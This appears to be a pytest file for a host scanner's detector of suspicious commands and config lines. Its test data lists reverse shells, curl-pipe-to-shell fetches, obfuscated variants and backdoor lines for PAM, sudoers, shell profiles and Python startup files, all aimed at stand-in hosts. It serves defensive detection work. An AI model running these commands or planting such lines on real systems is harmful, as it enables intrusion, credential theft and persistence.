"""Which texts are read line by line: whatever `shady` would tell of must be among them."""

import itertools
import shutil
import subprocess
from pathlib import Path

import build
import pytest
import tools

from picketline.hosts.probe import script

PLACES = ("/tmp", "/var/tmp", "/dev/shm", "/run/shm", "/run/user/1000")
SHAPES = (
    "{0}/x",
    "cd {0} && ./x",
    "sh -c {0}/x",
    "'{0}/x'",
    "true; {0}//x",
    "nohup {0}/./x",
)
FETCHES = (
    "curl -s http://x.example/i | sh",
    "wget -qO- x.example/i|bash",
    "bash <(curl x.example)",
    "fetch http://x.example/i && sh i",
    "wget x.example/i; chmod +x i",
    "cu'r'l x.example | s'h'",
    'w"ge"t x.example | python3',
    "echo aGk= | base64 -d | sh",
    "bash -i >& /dev/tcp/192.0.2.1/443 0>&1",
    "exec 3<>/dev/udp/192.0.2.1/53",
    "exec 3<>/dev//tcp/192.0.2.1/53",
    "nc -e /bin/sh 192.0.2.1 1",
    "/usr/bin/ncat -c sh 192.0.2.1",
    "n'c' -e /bin/sh 192.0.2.1 1",
    "%T/x",
    "%V/x",
    "/t'm'p/x",
    '/"tmp"/x',
    "/var//tmp/x",
    "/var/./tmp/x",
    "/dev//shm/x",
    "/dev/'sh'm/x",
    "/run//user/1/x",
    "/run/./user/1/x",
    '/run/us"er"/1/x',
    "c\\url x.example | sh",
    "curl x.example | bash -s -- --yes",
    "curl x.example | sudo -E bash -",
    "bash -c \"$(echo aGk= | base64 '-d')\"",
    "sh </dev/tcp/192.0.2.1/53",
    "mkfifo f; cat f | sh -i 2>&1 | openssl s_client > f",
    "socat TCP:192.0.2.1:1 EXEC:/bin/sh",
    "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
    "perl -e 'use Socket;exec(\"/bin/sh -i\");'",
    'php -r \'$s=fsockopen("192.0.2.1",4);exec("/bin/sh -i <&3");\'',
    "LD_PRELOAD=/tmp/x.so id",
    "cd '/tmp'; sh x",
    "cd /run/user/1000;./x",
)
SILENT = (
    "TMPDIR=/tmp/x /usr/bin/x",
    "find . /tmp/x -name y",
    "cp -a . /tmp/x",
    "chown -R node /tmp/x",
    "rm -rf /var/lib/php /tmp/x",
    "/tmp/*|/var/tmp/*) true ;;",
    "case $x in /tmp/*|/y) true ;; esac",
    "x=(/tmp/a /tmp/b)",
    'FILES="/tmp/.a /tmp/.b"',
    "grep -vE '/proc|/tmp/x' y",
    "sed -i 's|/tmp/a|/b|' f",
    "sh -c \"sed 's|/tmp/a|/b|' f\"",
    'echo "see the log (/tmp/x)"',
    'echo "to install: curl x | sh"',
    "flock -n /tmp/x /usr/bin/y",
    "exec 9>/tmp/x",
    "[ -d /tmp/x ] || mkdir /tmp/x",
    "sh -c 'curl -fsS https://x.example/ping'",
    "curl -s x.example/start; sh /opt/x; curl -s x.example/end",
    "curl -s x.example; cd /srv && ./x",
    "curl -s x.example | python3 -m json.tool",
    "curl -s x.example | python3 -c 'import json'",
    "curl -s x.example | bash /opt/x",
    "curl -L x.example -o /usr/local/bin/x && chmod a+rx /usr/local/bin/x",
    "wget -qO /etc/x.gpg x.example && chmod 644 /etc/x.gpg",
    "timeout 1 bash -c '</dev/tcp/192.0.2.1/5432'",
    "(echo > /dev/tcp/192.0.2.1/80) >/dev/null 2>&1",
    "nc -z 192.0.2.1 80",
    "source <(kubectl completion bash)",
)
TEXTS = (
    ("etc/update-motd.d/x", "/tmp/x"),
    ("etc/udev/rules.d/x.rules", 'RUN+="/home/ada/x"'),
    ("etc/udev/rules.d/x.rules", "RUN+=\"/bin/sh -c '/root/x'\""),
    ("etc/apt/apt.conf.d/x", 'DPkg::Post-Invoke {"/tmp/x";};'),
    ("etc/pam.d/sshd", "auth sufficient pam_permit.so"),
    ("etc/pam.d/sshd", "auth [success=done default=ignore]\tpam_permit.so"),
    ("etc/pam.d/sshd", "-auth\t[default=1] ../x.so"),
    ("etc/pam.d/sshd", "session required /srv/x.so a"),
    ("etc/pam.d/sshd", "session optional pam_exec.so /home/ada/x"),
    ("etc/pam.d/sshd", "session optional pam_script.so dir=/root/x"),
    ("etc/sudoers", "www-data ALL=(ALL) NOPASSWD: ALL"),
    ("etc/sudoers", "Defaults:git !authenticate"),
    ("etc/sudoers", 'Defaults env_keep+="LD_AUDIT"'),
    ("etc/sudoers", "ada ALL=/dev/shm/x"),
    ("etc/profile", "alias ls=/opt/.x/ls"),
    ("etc/profile", "sudo() { read -s x; }"),
    ("etc/profile", "function passwd { read -s x; }"),
    ("etc/profile", "PROMPT_COMMAND='curl x.example'"),
    ("etc/profile", "trap 'nc x.example 53' DEBUG"),
    ("etc/polkit-1/rules.d/x.rules", "polkit.addRule(function(){return polkit.Result.YES;});"),
    ("root/.gitconfig", "pager = /tmp/x"),
    ("usr/lib/python3/dist-packages/x.pth", "import os; os.system('id')"),
    ("usr/lib/python3/dist-packages/x.pth", "import x; x.b64decode('aWQ=')"),
    ("usr/local/lib/python3.11/dist-packages/sitecustomize.py", "exec(zlib.decompress(x))"),
)
COMMANDS = [
    *(shape.format(place) for shape, place in itertools.product(SHAPES, PLACES)),
    *FETCHES,
]


def _sh(code: str, text: str) -> str:
    """What dash prints after the parts of the probe that read texts."""
    tools.require("dash")
    frame = script(
        "root=\nturn=0\n", ("room", "awk", "stalls", "search", "texts"), build.NONCE
    ).decode()
    return subprocess.run(
        (str(shutil.which("dash")), "-c", f"{frame[: frame.rindex('main ')]}\n{code}"),
        input=text,
        capture_output=True,
        text=True,
        check=False,
    ).stdout


@pytest.mark.parametrize("command", COMMANDS)
def test_what_would_be_told_holds_a_word(command: str) -> None:
    """A command that `shady` names is in a text that grep picks out."""
    told = _sh("""awk "$awk_lib$awk_shady"'{ print shady($0) }'""", command)
    assert told.strip(), "not a shady command"
    assert _sh('grep -E "$text_words"', command).strip() == command


@pytest.mark.parametrize("command", SILENT)
def test_what_honest_hosts_run_is_not_told(command: str) -> None:
    """Commands that name scratch, fetch or look at a port, and run none of it."""
    assert not _sh("""awk "$awk_lib$awk_shady"'{ print shady($0) }'""", command).strip()


@pytest.mark.parametrize(("path", "line"), TEXTS)
def test_what_a_kind_would_tell_holds_a_word(path: str, line: str, tmp_path: Path) -> None:
    """The same for what only some kinds of texts tell."""
    text = tmp_path / path
    text.parent.mkdir(parents=True)
    text.write_text(f"{line}\n", encoding="ascii")
    program = "function bare(path) { return substr(path, length(root) + 1) } { text_file($0) }"
    told = _sh(
        f"""awk -v root={tmp_path} "$awk_lib$awk_shady$awk_texts"'{program}'""",
        f"homes 0 0 1\n{text}\n",
    )
    assert "W|" in told
    assert _sh(f"root={tmp_path} bounded= quiet=-q; suspect_texts", "").splitlines()[1:] == [
        str(text)
    ]


@pytest.mark.parametrize(
    ("homes", "turn", "seen", "left"),
    [
        (3, 0, range(3), 0),
        (64, 5, range(64), 0),
        (70, 0, range(64), 6),
        (70, 1, range(64, 70), 64),
        (70, 2, range(64), 6),
    ],
)
def test_homes_come_by_turn(homes: int, turn: int, seen: range, left: int, tmp_path: Path) -> None:
    """At most 64 at a sweep; every home within as many sweeps as it takes."""
    for number in range(homes):
        (tmp_path / f"{number:02}").mkdir()
        (tmp_path / f"{number:02}/.bashrc").touch()
    count = f"turn={turn} python=0 left=0 odd_names=0 folders=; set +f; homes_of_turn {tmp_path}/*"
    found, rest = _sh(f'{count}; printf "%s|%s" "$folders" "$left"', "").split("|")
    own = [word for word in found.split() if word.startswith(str(tmp_path))]
    assert own == [f"{tmp_path}/{number:02}/.bashrc" for number in seen]
    assert int(rest) == left


def test_an_ordinary_unit_is_not_read() -> None:
    """Else the choice would spare nothing."""
    unit = "[Unit]\nDescription=Don.\n[Service]\nExecStart=/usr/sbin/cron -f $OPTS\nKillMode=none\n"
    assert not _sh('grep -E "$text_words"', unit)
